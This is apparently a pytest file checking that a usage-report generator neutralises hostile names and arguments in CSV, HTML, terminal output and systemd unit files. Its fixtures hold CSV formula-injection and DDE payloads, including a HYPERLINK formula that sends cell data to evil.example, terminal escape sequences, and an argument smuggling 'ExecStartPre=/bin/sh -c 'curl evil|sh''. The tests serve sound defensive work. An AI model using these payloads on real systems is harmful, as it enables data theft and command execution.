"""Hostile names and arguments: spreadsheets that would run a cell, NUL bytes, terminal escapes, unit files, and
people whose name the caller chose."""

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli import cli
from generator.errors import ConfigError
from generator.identity import IdentityAudit, IdentityRules, caller_named, person_of
from generator.site.csv_files import cell
from generator.timer import units

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
ESCAPE = "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b[2J"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    assert cell(text) == "'" + text
    assert cell("alice@example.com") == "alice@example.com" and cell("a-b") == "a-b"


def hostile_logs(tmp_path: Path) -> Path:
    logs = tmp_path / "logs"
    logs.mkdir()
    names = [*FORMULAS, "nul\x00name", ESCAPE]
    records = [
        {"timestamp": "2026-11-26T10:00:00Z", "identity": {"arn": f"arn:aws:sts::123456789012:federated-user/{name}"},
         "requestId": f"r{i}-{j}", "modelId": model, "input": {"inputTokenCount": 1000},
         "output": {"outputTokenCount": 100}}
        for i, name in enumerate(names) for j, model in enumerate(("amazon.nova-lite-v1:0", f"acme.{name}"))
    ]  # fmt: skip
    (logs / "evil.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    return logs


def test_hostile_names_reach_csv_html_and_the_terminal_harmlessly(tmp_path: Path) -> None:
    out = tmp_path / "site"
    done = CliRunner().invoke(
        cli, ["build", "--logs", str(hostile_logs(tmp_path)), "--out", str(out), "--now", "2026-11-27T00:00:00Z",
              "--windows", "7d"],
    )  # fmt: skip
    assert done.exit_code == 0, done.output
    assert "\x1b" not in done.output and "\x07" not in done.output and "\\x1b]8;;" in done.output
    rows = list(csv.DictReader(io.StringIO((out / "data/usage-7d.csv").read_bytes().decode(), newline="")))
    for row in rows:
        for column in ("person", "model", "model_name"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
            assert "\x00" not in row[column]
    people = {r["person"] for r in rows}
    assert {"'" + f for f in FORMULAS} <= people and "nul\ufffdname" in people
    for page in out.rglob("*.html"):
        assert b"\x00" not in page.read_bytes()
    assert b"\x00" not in (out / "data/usage-7d.csv").read_bytes()
    doc = json.loads((out / "data/usage-7d.json").read_text())
    assert "nul\x00name" in {u["name"] for u in doc["users"]}  # JSON stays exact (escaped as \u0000)


@pytest.mark.parametrize("argument", ["--bucket\nExecStartPre=/bin/sh -c 'curl evil|sh'", "b\rx", "a\x00b"])
def test_a_unit_file_never_takes_a_new_line_from_an_argument(argument: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="newline or control character"):
        units(["publish", "--bucket", argument], "1h", True, tmp_path, tmp_path)


def test_systemd_specifiers_and_variables_stand_for_themselves(tmp_path: Path) -> None:
    found = units(["publish", "--bucket", "b%h$HOME", "--prefix", "100%"], "1h", True, tmp_path, tmp_path)
    (exec_line,) = [line for line in found.service.splitlines() if line.startswith("ExecStart=")]
    assert "b%%h$$HOME" in exec_line and "100%%" in exec_line


def test_people_known_only_by_a_session_name_they_chose_are_marked(tmp_path: Path) -> None:
    rules = IdentityRules(session_roles=frozenset({"DeveloperAccess"}))
    sts = "arn:aws:sts::123456789012:assumed-role/"
    audits = [person_of(sts + "DeveloperAccess/frank", rules), person_of(sts + "DeveloperAccess/grace", rules),
              person_of("arn:aws:iam::123456789012:user/grace", rules)]  # fmt: skip
    assert [a.caller_chosen for a in audits] == [True, True, False]
    assert caller_named(audits) == {"frank"}  # grace is also an IAM user: something vouches for her name
    assert IdentityAudit("p", "p", "iam-user").caller_chosen is False


def test_the_demo_marks_session_names(demo_site: Path) -> None:
    doc = json.loads((demo_site / "data/usage-30d.json").read_text())
    frank = next(u for u in doc["users"] if u["name"] == "frank")
    assert frank["caller_chosen_name"] is True and not any(
        u["caller_chosen_name"] for u in doc["users"] if u["name"] != "frank"
    )
    assert all(i["caller_chosen"] == i["rule"].startswith("session-role") for i in doc["identities"])
    assert 'class="caller-named"' in (demo_site / "usage-30d.html").read_text()
